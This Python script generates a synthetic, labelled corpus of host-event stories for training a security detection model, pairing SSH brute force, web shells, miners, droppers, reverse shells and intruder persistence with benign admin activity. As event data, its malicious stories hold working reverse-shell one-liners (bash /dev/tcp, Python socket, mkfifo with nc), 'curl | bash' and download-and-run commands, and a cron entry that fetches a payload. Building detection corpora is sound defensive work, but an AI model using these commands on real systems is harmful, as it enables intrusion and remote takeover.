#!/usr/bin/env python3
"""Write the model's labelled scenario corpus (models/corpus/*.jsonl).

Each scenario is a small, explicit story of what a host did, in the JSONL event contract,
with a `# label:` header. Templates are varied by deterministic parameters (addresses,
users, paths, parents), so rerunning this script gives byte-identical files. The stories are
ours, written from how these attacks and these false positives look on real hosts; they are
synthetic, and the held-out evaluation on them measures fit to these stories, not field
precision. `innerwarden model train` replays them through the engine.
"""
import json
import os
import sys

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "models", "corpus")


def ts(base, sec):
    h, rem = divmod(base + sec, 3600)
    m, s = divmod(rem, 60)
    return f"2026-11-20T{h % 24:02d}:{m:02d}:{s:02d}.000Z"


def exec_ev(t, pid, ppid, uid, path, argv):
    return {"v": 1, "ts": t, "source": "ebpf", "kind": "exec", "pid": pid, "ppid": ppid,
            "uid": uid, "gid": uid, "comm": os.path.basename(path)[:15], "filename": path,
            "argv": argv, "argv_truncated": False, "cgroup_id": 0}


def fork_ev(t, parent, child, comm):
    return {"v": 1, "ts": t, "source": "ebpf", "kind": "fork", "parent_pid": parent,
            "child_pid": child, "comm": comm}


def exit_ev(t, pid):
    return {"v": 1, "ts": t, "source": "ebpf", "kind": "exit", "pid": pid, "code": 0}


def fail(t, user, src, port):
    return {"v": 1, "ts": t, "source": "journald", "kind": "auth_failure", "service": "sshd",
            "reason": "bad_credentials", "user": user, "src": src, "port": port, "pid": port,
            "count": 1}


def ok(t, user, src, port):
    return {"v": 1, "ts": t, "source": "journald", "kind": "auth_success", "service": "sshd",
            "user": user, "src": src, "port": port, "method": "password", "pid": port}


def write(name, label, comment, events, learning=False):
    path = os.path.join(OUT, name)
    with open(path, "w") as f:
        f.write(f"# {comment}\n# label: {label}\n")
        if learning:
            f.write("# learning: true\n")
        for e in events:
            f.write(json.dumps(e) + "\n")


def brute_unknown(i):
    src = f"203.0.113.{10 + i}"
    users = ["root", "admin", "oracle", "ubuntu", "test", "postgres"]
    n = 6 + (i * 3) % 14
    return [fail(ts(i * 100, k), users[(i + k) % len(users)], src, 40000 + k) for k in range(n)]


def brute_sustained(i):
    """Guessing that goes on past one window: two or three findings on one source."""
    src = f"192.0.2.{100 + i}"
    users = ["root", "admin", "git", "pi", "user", "support"]
    windows = 2 + i % 2
    ev = []
    for w in range(windows):
        ev += [fail(ts(i * 400, w * 70 + k * 2), users[(i + k + w) % len(users)], src, 42000 + w * 100 + k)
               for k in range(6 + (i + w) % 5)]
    return ev


def brute_known_admin(i):
    src = f"198.51.100.{20 + i}"
    user = ["alice", "bob", "carol", "dave", "erin", "frank"][i % 6]
    ev = [ok(ts(i * 100, k * 5), user, src, 50000 + k) for k in range(2 + i % 3)]
    base = 40 + 5 * (2 + i % 3)
    ev += [fail(ts(i * 100, base + k), user, src, 51000 + k) for k in range(5 + i % 3)]
    return ev


def web_shell(i):
    parent = ["/usr/sbin/nginx", "/usr/sbin/apache2", "/usr/sbin/php-fpm8.2"][i % 3]
    uid = 33
    url = f"http://192.0.2.{50 + i}/x{i}.sh"
    return [
        exec_ev(ts(i * 50, 0), 900 + i, 1, 0, parent, [os.path.basename(parent)]),
        fork_ev(ts(i * 50, 1), 900 + i, 1900 + i, os.path.basename(parent)[:15]),
        exec_ev(ts(i * 50, 2), 1900 + i, 900 + i, uid, "/bin/sh",
                ["sh", "-c", f"curl -fsSL {url} | bash"]),
    ]


def db_tmp(i):
    parent = ["/usr/sbin/mysqld", "/usr/lib/postgresql/15/bin/postgres", "/usr/bin/redis-server"][i % 3]
    uid = [110, 111, 112][i % 3]
    drop = f"/tmp/.{['x', 'cache', 'ice'][i % 3]}{i}/kdevtmpfsi"
    return [
        exec_ev(ts(i * 50, 0), 700 + i, 1, uid, parent, [os.path.basename(parent)]),
        fork_ev(ts(i * 50, 1), 700 + i, 1700 + i, "sh"),
        exec_ev(ts(i * 50, 2), 1700 + i, 700 + i, uid, drop, ["kdevtmpfsi"]),
    ]


def memfd(i):
    return [
        exec_ev(ts(i * 50, 0), 600 + i, 1, 1000 + i, "/usr/bin/python3", ["python3", f"/home/u{i}/.cache/x.py"]),
        exec_ev(ts(i * 50, 2), 600 + i, 1, 1000 + i, f"/proc/self/fd/{3 + i % 4}", ["[kworker/0:1]"]),
    ]


def installer(i):
    """A human at an interactive login shell runs a vendor installer they run routinely."""
    user_uid = 1000 + i
    shell = 500 + 10 * i
    vendor = ["get.docker.com", "sh.rustup.rs", "deb.nodesource.com/setup_20.x", "install.python-poetry.org"][i % 4]
    ev = [exec_ev(ts(i * 300, 0), shell, 1, user_uid, "/usr/bin/bash", ["-bash"])]
    # Earlier runs of the same tools from the same shell: the habits the baseline has seen.
    for k in range(3):
        c = shell + 1 + k
        ev += [fork_ev(ts(i * 300, 10 + k * 60), shell, c, "bash"),
               exec_ev(ts(i * 300, 11 + k * 60), c, shell, user_uid, "/usr/bin/curl", ["curl", "-fsSL", f"https://{vendor}"]),
               exit_ev(ts(i * 300, 12 + k * 60), c)]
    ev.append(exec_ev(ts(i * 300, 250), shell + 9, shell, user_uid, "/usr/bin/sh",
                      ["sh", "-c", f"curl -fsSL https://{vendor} | sh"]))
    return ev


def build_tmp(i):
    """A developer's build runs configure test programs out of /tmp."""
    uid = 1000 + i
    shell = 300 + 20 * i
    ev = [exec_ev(ts(i * 300, 0), shell, 1, uid, "/usr/bin/bash", ["-bash"]),
          exec_ev(ts(i * 300, 1), shell + 1, shell, uid, "/usr/bin/make", ["make", "-j4"])]
    for k in range(3):
        ev.append(exec_ev(ts(i * 300, 10 + k), shell + 2 + k, shell + 1, uid, f"/tmp/build-{i}/conftest",
                          ["./conftest"]))
    return ev


def pkg_postinst(i):
    """apt/dpkg running a maintainer script it has run before, as root."""
    ev = [exec_ev(ts(i * 300, 0), 200 + i, 1, 0, "/usr/bin/dpkg", ["dpkg", "--configure", "-a"])]
    for k in range(3):
        ev.append(exec_ev(ts(i * 300, 10 + k * 30), 210 + 5 * i + k, 200 + i, 0,
                          f"/tmp/dpkg-{i}/postinst", ["postinst", "configure"]))
    return ev


def connect_ev(t, pid, comm, daddr, dport):
    return {"v": 1, "ts": t, "source": "ebpf", "kind": "tcp_connect", "pid": pid, "comm": comm,
            "saddr": "10.0.0.5", "sport": 50000 + dport % 1000, "daddr": daddr, "dport": dport}


def write_ev(t, pid, uid, comm, path):
    return {"v": 1, "ts": t, "source": "ebpf", "kind": "file_write", "pid": pid, "uid": uid,
            "comm": comm, "path": path, "flags": 577}


def login_shell(t0, i, user, uid, src):
    """sshd accepts `user` from `src` and starts their login shell; returns (events, shell pid)."""
    sshd = 4000 + 10 * i
    ev = [ok(ts(t0, 0), user, src, 52000 + i),
          exec_ev(ts(t0, 1), sshd, 1, 0, "/usr/sbin/sshd", [f"sshd: {user} [priv]"]),
          exec_ev(ts(t0, 2), sshd + 1, sshd, uid, "/usr/bin/bash", ["-bash"])]
    return ev, sshd + 1


def sudo_shell(t0, shell):
    """`sudo -i` from the admin's login shell: root's shell (pid shell + 2) under theirs."""
    return [exec_ev(ts(t0, 3), shell + 1, shell, 0, "/usr/bin/sudo", ["sudo", "-i"]),
            exec_ev(ts(t0, 4), shell + 2, shell + 1, 0, "/usr/bin/bash", ["-bash"])]


# Routine administration that low- and medium-severity rules see: each is what an admin does
# on a real host for a real reason (the rule fires, the activity is benign).
ADMIN_TASKS = [
    (0, ["systemctl", "enable", "--now", "nginx.service"]),
    (0, ["systemctl", "status", "auditd"]),
    (0, ["systemctl", "is-active", "innerwarden"]),
    (0, ["systemctl", "stop", "cron"]),
    (0, ["shutdown", "-r", "+5"]),
    (0, ["date", "-s", "2026-11-20 09:00:00"]),
    (0, ["modprobe", "wireguard"]),
    (0, ["nft", "delete", "rule", "inet", "filter", "input", "handle", "12"]),
    (0, ["tcpdump", "-i", "eth0", "-n", "port", "53"]),
    (1000, ["chmod", "-R", "777", "/srv/share/scratch"]),
    (1000, ["curl", "-s", "https://ipinfo.io/"]),
    (1000, ["sh", "-c", "ps aux | grep -i filebeat"]),
]


def admin_task(i, seen_before):
    """A known admin logs in from their usual address and runs one routine task; on hosts
    past learning the same task has run before (the baseline knows it)."""
    uid, argv = ADMIN_TASKS[i % len(ADMIN_TASKS)]
    user = ["alice", "bob", "carol"][i % 3]
    src = f"198.51.100.{30 + i % 3}"
    ev = []
    t0 = i * 900
    runs = [0, 300] if seen_before else [300]
    for n, t in enumerate(runs):
        part, shell = login_shell(t0 + t, i * 2 + n, user, 1000 + i % 3, src)
        ev += part
        pid = shell + 3
        path = "/usr/bin/" + argv[0] if argv[0] != "sh" else "/usr/bin/sh"
        if uid == 0:
            ev += sudo_shell(t0 + t, shell)
            ev.append(exec_ev(ts(t0 + t, 5), pid, shell + 2, 0, path, argv))
        else:
            ev.append(exec_ev(ts(t0 + t, 5), pid, shell, 1000 + i % 3, path, argv))
    return ev


def intern_sudo(i):
    """A new team member without sudo rights tries sudo from their own session."""
    user = ["intern", "dev2", "qa"][i % 3]
    return [{"v": 1, "ts": ts(i * 60, k), "source": "journald", "kind": "sudo", "user": user,
             "target_user": "root", "command": ["/usr/bin/apt update", "/usr/bin/systemctl restart app"][k % 2],
             "tty": "pts/1", "pwd": f"/home/{user}", "allowed": False, "pid": 7000 + i * 10 + k}
            for k in range(1 + i % 2)]


def admin_scan(i, seen_before):
    """An admin checks which hosts answer on the office subnet."""
    user = ["alice", "bob"][i % 2]
    ev = []
    runs = [0, 600] if seen_before else [600]
    for n, t in enumerate(runs):
        part, shell = login_shell(i * 1200 + t, 60 + i * 2 + n, user, 1000 + i % 2, f"198.51.100.{40 + i % 2}")
        ev += part
        ev += sudo_shell(i * 1200 + t, shell)
        ev.append(exec_ev(ts(i * 1200 + t, 5), shell + 3, shell + 2, 0, "/usr/bin/nmap",
                          ["nmap", "-sn", f"192.168.{i}.0/24"]))
    return ev


SHELLS = [
    ("/usr/bin/bash", lambda ip, port: ["bash", "-c", f"bash -i >& /dev/tcp/{ip}/{port} 0>&1"]),
    ("/usr/bin/python3", lambda ip, port: ["python3", "-c",
        f"import socket,subprocess,os;s=socket.socket();s.connect(('{ip}',{port}));"
        "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);subprocess.call(['/bin/sh','-i'])"]),
    ("/usr/bin/sh", lambda ip, port: ["sh", "-c", f"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc {ip} {port} >/tmp/f"]),
]


def reverse_shell(i):
    """A shell whose stdio goes to a socket to the attacker, started by a web worker, by a
    root cron job an attacker planted, or by root in a session (as the VM scenario does)."""
    path, mk = SHELLS[i % len(SHELLS)]
    ip, port = f"203.0.113.{120 + i}", 4444 + i
    ctx = i % 3
    t = i * 60
    if ctx == 0:
        ev = [exec_ev(ts(t, 0), 800 + i, 1, 0, "/usr/sbin/nginx", ["nginx"]),
              exec_ev(ts(t, 1), 810 + i, 800 + i, 33, "/usr/sbin/nginx", ["nginx"])]
        parent, uid = 810 + i, 33
    elif ctx == 1:
        ev = [exec_ev(ts(t, 0), 820 + i, 1, 0, "/usr/sbin/cron", ["cron", "-f"])]
        parent, uid = 820 + i, 0
    else:
        ev = [exec_ev(ts(t, 0), 830 + i, 1, 0, "/usr/bin/bash", ["bash", "/root/run.sh"])]
        parent, uid = 830 + i, 0
    pid = 1800 + i
    argv = mk(ip, port)
    ev.append(exec_ev(ts(t, 2), pid, parent, uid, path, argv))
    if path.endswith("sh") and "nc " in argv[-1]:
        ev.append(exec_ev(ts(t, 2), pid + 1, pid, uid, "/usr/bin/nc", ["nc", ip, str(port)]))
        ev.append(connect_ev(ts(t, 3), pid + 1, "nc", ip, port))
    else:
        ev.append(connect_ev(ts(t, 3), pid, argv[0], ip, port))
    return ev


def dropper(i):
    """Fetch a binary into a temporary directory and run it at once."""
    ip = f"203.0.113.{160 + i}"
    drop = [f"/tmp/.{i}x/update", f"/var/tmp/kworkerd{i}", f"/dev/shm/.s{i}"][i % 3]
    uid = [33, 0, 1000 + i][i % 3]
    parent = 850 + i
    ev = [exec_ev(ts(i * 60, 0), parent, 1, uid, "/usr/bin/sh", ["sh", "-c", f"curl -o {drop} http://{ip}/u && chmod +x {drop} && {drop}"]),
          exec_ev(ts(i * 60, 1), parent + 1, parent, uid, "/usr/bin/curl", ["curl", "-o", drop, f"http://{ip}/u"]),
          write_ev(ts(i * 60, 2), parent + 1, uid, "curl", drop),
          exec_ev(ts(i * 60, 3), parent + 2, parent, uid, "/usr/bin/chmod", ["chmod", "+x", drop]),
          exec_ev(ts(i * 60, 4), parent + 3, parent, uid, drop, [drop.rsplit("/", 1)[1]]),
          connect_ev(ts(i * 60, 5), parent + 3, drop.rsplit("/", 1)[1][:15], ip, 443)]
    return ev


def webshell_recon(i):
    """A web shell looks around: security tools, the hypervisor, its own public address."""
    t = i * 60
    ev = [exec_ev(ts(t, 0), 860 + i, 1, 0, "/usr/sbin/apache2", ["apache2", "-k", "start"]),
          exec_ev(ts(t, 1), 870 + i, 860 + i, 33, "/usr/sbin/apache2", ["apache2", "-k", "start"])]
    cmds = [["sh", "-c", "ps aux | grep -i falco"],
            ["sh", "-c", "curl -s https://ipinfo.io/"],
            ["sh", "-c", "lsmod | grep -i 'vbox\\|vmw_\\|qemu'"]]
    for k in range(1 + i % 3):
        ev.append(exec_ev(ts(t, 2 + k), 1870 + i * 5 + k, 870 + i, 33, "/bin/sh", cmds[(i + k) % 3]))
    return ev


def intruder_session(i):
    """Guessing from an unknown address succeeds; the intruder then hides their history and
    adds a cron entry that calls home."""
    src = f"192.0.2.{180 + i}"
    user = ["admin", "ubuntu", "pi"][i % 3]
    ev = [fail(ts(i * 300, k), user, src, 43000 + k) for k in range(6)]
    part, shell = login_shell(i * 300 + 20, 90 + i, user, 1000 + i % 3, src)
    ev += part
    t = i * 300 + 30
    ev += [exec_ev(ts(t, 1), shell + 3, shell, 1000 + i % 3, "/usr/bin/bash", ["bash", "-c", "unset HISTFILE; export HISTSIZE=0"]),
           exec_ev(ts(t, 2), shell + 4, shell, 0, "/usr/bin/bash",
                   ["bash", "-c", f"echo '*/5 * * * * root curl -s http://{src}/p | sh' > /etc/cron.d/apt-compat"]),
           write_ev(ts(t, 3), shell + 4, 0, "bash", "/etc/cron.d/apt-compat")]
    return ev


def main():
    os.makedirs(OUT, exist_ok=True)
    for f in os.listdir(OUT):
        if f.endswith(".jsonl"):
            os.remove(os.path.join(OUT, f))
    # Class balance follows what an exposed SSH port sees: password guessing from unknown
    # sources is common, an admin mistyping five times within a minute is not, and guessing
    # that lasts beyond one window is practically never a human. Some stories replay while the
    # baseline is still learning (no rarity), as on a freshly installed host.
    for i in range(12):
        write(f"malicious-bruteforce-unknown-{i:02d}.jsonl", "malicious",
              "SSH password guessing from a source that never logged in here.", brute_unknown(i),
              learning=(i % 4 == 3))
    for i in range(16):
        write(f"malicious-bruteforce-sustained-{i:02d}.jsonl", "malicious",
              "SSH password guessing from one source over several minutes.", brute_sustained(i),
              learning=(i % 4 == 1))
    for i in range(6):
        write(f"benign-admin-mistyped-{i:02d}.jsonl", "benign",
              "An admin who logs in from this address mistypes the password a few times.",
              brute_known_admin(i), learning=(i % 2 == 1))
    for i in range(8):
        write(f"malicious-webshell-{i:02d}.jsonl", "malicious",
              "A web server worker runs sh -c 'curl … | bash' (web shell).", web_shell(i))
        write(f"benign-installer-{i:02d}.jsonl", "benign",
              "A user at a login shell runs a vendor installer the host has seen before.",
              installer(i), learning=(i == 7))
    for i in range(6):
        write(f"malicious-db-dropper-{i:02d}.jsonl", "malicious",
              "A database server spawns a miner dropped in /tmp.", db_tmp(i))
        write(f"benign-build-conftest-{i:02d}.jsonl", "benign",
              "A developer's configure runs its test programs from /tmp.", build_tmp(i),
              learning=(i % 3 == 2))
    for i in range(5):
        write(f"malicious-memfd-{i:02d}.jsonl", "malicious",
              "A script fexecve()s a memfd payload disguised as a kernel thread.", memfd(i))
        write(f"benign-dpkg-postinst-{i:02d}.jsonl", "benign",
              "dpkg runs a maintainer script from its temporary directory.", pkg_postinst(i),
              learning=(i % 3 == 2))
    for i in range(36):
        write(f"benign-admin-task-{i:02d}.jsonl", "benign",
              "A known admin runs a routine task a low-severity rule watches.",
              admin_task(i, seen_before=(i % 4 != 3)), learning=(i % 4 == 3))
    for i in range(4):
        write(f"benign-sudo-refused-{i:02d}.jsonl", "benign",
              "A team member without sudo rights tries sudo.", intern_sudo(i))
        write(f"benign-admin-scan-{i:02d}.jsonl", "benign",
              "An admin pings the office subnet with nmap.", admin_scan(i, seen_before=(i % 2 == 0)),
              learning=(i % 2 == 1))
    for i in range(9):
        write(f"malicious-reverse-shell-{i:02d}.jsonl", "malicious",
              "A shell's stdio goes to a socket on the attacker's listener.", reverse_shell(i),
              learning=(i % 3 == 2))
    for i in range(6):
        write(f"malicious-dropper-{i:02d}.jsonl", "malicious",
              "A binary is downloaded to a temporary directory and run at once.", dropper(i),
              learning=(i % 2 == 1))
        write(f"malicious-webshell-recon-{i:02d}.jsonl", "malicious",
              "A web shell checks for security tools, the hypervisor and its public address.",
              webshell_recon(i), learning=(i % 3 == 2))
    for i in range(4):
        write(f"malicious-intruder-session-{i:02d}.jsonl", "malicious",
              "A guessed login hides its history and plants a cron job that calls home.",
              intruder_session(i), learning=(i % 2 == 1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
